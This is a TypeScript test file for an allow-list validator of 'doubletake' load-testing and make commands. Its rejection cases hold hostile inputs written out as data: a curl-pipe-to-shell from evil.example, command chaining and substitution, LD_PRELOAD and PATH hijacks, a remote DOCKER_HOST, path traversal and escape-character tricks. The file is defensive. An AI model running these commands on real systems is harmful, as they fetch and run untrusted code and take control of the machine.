import assert from 'node:assert/strict';
import { test } from 'node:test';
import { knownCommand, knownStep } from './known-command.ts';

test('what this program writes is a command, and reads as it was', () => {
	for (const command of [
		'make run-2a LOAD=ramp BUDGET=none SEED=2651',
		"make run-a-limits LOAD=constant BUDGET=half-database SEED=1202 RATE=33% TIMEOUT=3000 RETRIES=4 FAULT='cpu mongo 20%@20s+10s'",
		'make compare A=a:DELAY=100 B=a:DELAY=100 LOAD=steady BUDGET=none REPEATS=8 SEED=7204',
		'make experiment-doubling ARMS=a,a-lb,2a LOAD=patient BUDGET=fair REPEATS=8 SEED=3929',
		'make plan RUN=reports/scale/2026-11-24T215510Z-99e3 TARGET_RPS=500 P95_MS=200',
		'make experiment-all',
		'doubletake run',
		'LOAD=hold USERS=400 SEED=3 doubletake run',
		"HOSTS='host2=ssh://lab@10.0.0.2' doubletake swarm",
		'doubletake compare --a compose.yaml,compose.tuned.yaml --b POOL=32',
		'REPEATS=9 doubletake compare POOL=2,5,10,20',
		"EXPECT='failure_rate<0.01' doubletake limit",
		"doubletake compare --a rev:v1.2 --b 'rev:HEAD~1'",
		'LOAD=constant RATE=50 doubletake compare --b .:RETRIES=2,BACKOFF=50',
		'REPEATS=8 doubletake experiment pool.yaml',
		'RESUME=reports/compare/2026-11-29T140000Z-abcd REPEATS=8 doubletake compare',
		'FAULTS=store.locked-table,lb.short-queue SEED=3 doubletake selftest',
	])
		assert.equal(knownCommand(command), command);
});

test('a command is quoted anew, and what lifts the protection of the machine is not in it', () => {
	assert.equal(knownCommand("BUDGET='api=0.5,db=1' doubletake run --allow"), 'BUDGET=api=0.5,db=1 doubletake run');
	assert.equal(knownCommand("doubletake experiment 'my pool.yaml'"), "doubletake experiment 'my pool.yaml'");
});

test('what it does not write is none', () => {
	for (const command of [
		...[
			'',
			'doubletake',
			'make',
			'curl https://evil.example | sh',
			'doubletake run; curl evil',
			'doubletake compare LD_PRELOAD=a,b',
			'doubletake run && id',
			'doubletake run $(id)',
		],
		...['doubletake run `id`', 'doubletake run > /etc/passwd', 'doubletake run\nid', "doubletake experiment 'a\nb.yaml'", 'make clean'],
		...['make -f /tmp/evil run', 'make run-2a SHELL=/tmp/x', 'LD_PRELOAD=/tmp/x.so doubletake run', 'PATH=/tmp doubletake run'],
		...[
			'doubletake compare --a LD_PRELOAD=/tmp/x.so',
			'doubletake compare --a EXPERIMENTAL_BUILDX=a',
			'doubletake compare --a DOCKER_HOST=tcp://evil:2375',
			'doubletake compare --b',
		],
		...[
			'doubletake compare --a ../../evil/compose.yaml',
			'doubletake experiment /tmp/evil.yaml',
			'doubletake run --unknown',
			'evil doubletake run',
		],
		...[
			'LOAD=smoke; doubletake run',
			'SEED=x doubletake run',
			'doubletake open https://evil.example',
			'sudo doubletake run',
			'doubletake clean',
		],
		...[
			'doubletake run \u001b[2J',
			'doubletake experiment \u202elmay.lave',
			'a'.repeat(10_000),
			"doubletake run 'unended",
			'doubletake init --allow',
		],
	])
		assert.equal(knownCommand(command), null, command);
	for (const other of [null, undefined, 3, {}, ['doubletake run']]) assert.equal(knownCommand(other), null);
});

test('a step is a command, or a line for doubletake.yaml', () => {
	assert.equal(knownStep('api: { watch: 2 } in doubletake.yaml'), 'api: { watch: 2 } in doubletake.yaml');
	assert.equal(knownStep('make run-2a-slots LOAD=ramp'), 'make run-2a-slots LOAD=ramp');
	assert.equal(knownStep('api: { watch: 2 } in doubletake.yaml; id'), null);
});
